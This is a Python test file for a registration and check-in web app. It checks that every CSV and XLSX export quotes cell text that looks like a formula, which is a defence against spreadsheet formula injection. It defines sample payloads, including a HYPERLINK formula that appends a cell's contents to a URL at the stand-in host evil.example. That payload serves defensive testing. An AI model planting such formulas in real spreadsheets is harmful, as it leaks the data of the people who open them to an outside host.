"""Every CSV and XLSX the product writes keeps text that looks like a formula from running.

The test finds the export routes in the URL map, so an export added later without a case here fails.
"""

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
import time_machine
from openpyxl import load_workbook

from app.auth.models import Role
from app.checkin import service as checkin_service
from app.extensions import db
from app.tables import defused, is_formula_like
from tests.registration.conftest import register  # noqa: F401  (a fixture)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAYLOADS = [EVIL, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _exports(forum_id):
    return {
        "registration.export": [f"/forums/{forum_id}/registrations.{fmt}" for fmt in ("csv", "xlsx")],
        "checkin.export_log": [f"/forums/{forum_id}/checkin/log.{fmt}" for fmt in ("csv", "xlsx")],
        "transfer.export": [f"/directory/export.{fmt}" for fmt in ("csv", "xlsx")],
        "transfer.import_template": ["/directory/import/template.xlsx"],
        "api.export_organizations": [f"/api/v1/organizations/export?format={f}" for f in ("csv", "xlsx")],
    }


def _spreadsheet_endpoints(app):
    found = set()
    for rule in app.url_map.iter_rules():
        if any(word in rule.rule for word in ("xlsx", "csv", "/export")):
            found.add(rule.endpoint)
    return found


def test_the_rule_defuses_formulas_but_not_phone_numbers():
    assert defused(EVIL) == "'" + EVIL
    assert [is_formula_like(p) for p in PAYLOADS] == [True] * len(PAYLOADS)
    assert defused("+66 81 234 5678") == "+66 81 234 5678"
    assert defused("มูลนิธิ") == "มูลนิธิ" and defused(12) == 12


@pytest.fixture
def on_the_day():
    """The clock at 09:00 in Bangkok on the forum's day, 25 October 2018."""
    with time_machine.travel(datetime(2018, 10, 25, 2, 0, tzinfo=UTC), tick=False):
        yield


@pytest.fixture
def planted(on_the_day, app, login_as, create_forum, create_organization, register, create_user):  # noqa: F811
    """A forum whose registrations, scan log and directory all carry formulas, and a logged-in organizer."""
    for number, payload in enumerate(PAYLOADS):
        create_organization(name=f"{payload} {number}", address=payload)
    forum = create_forum(status="open")
    forum.registration_closes_at = forum.ends_at
    db.session.commit()
    for number, payload in enumerate(PAYLOADS):
        register(
            forum,
            first_name=payload,
            position=payload,
            organization_name=payload,
            phone=f"0812345{number:03d}",
        )
    staff = create_user(Role.CHECKIN)
    for payload in PAYLOADS:
        checkin_service.check_in(forum.id, payload, staff, note=payload)
    db.session.commit()
    login_as(Role.ADMIN)
    return forum


def _cells(body, url):
    if ".csv" in url or "format=csv" in url:
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), (url, name)
    workbook = load_workbook(io.BytesIO(body))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.quotePrefix, (url, cell.coordinate)
                    cells.append("'" + cell.value)  # text as Excel shows it: quoted
                elif cell.value is not None:
                    cells.append(str(cell.value))
    return cells


def test_every_export_keeps_formulas_as_text(app, client, planted):
    exports = _exports(planted.id)
    assert _spreadsheet_endpoints(app) == set(exports), "an export without a case in this test"
    for urls in exports.values():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            cells = _cells(response.data, url)
            assert cells, url
            live = [cell for cell in cells if is_formula_like(cell)]
            assert not live, (url, live)
    # The payloads are there, quoted, where people and QR codes typed them.
    registrations = _cells(client.get(f"/forums/{planted.id}/registrations.csv").data, ".csv")
    assert "'" + EVIL in registrations
    log = _cells(client.get(f"/forums/{planted.id}/checkin/log.xlsx").data, ".xlsx")
    assert "'" + EVIL in log
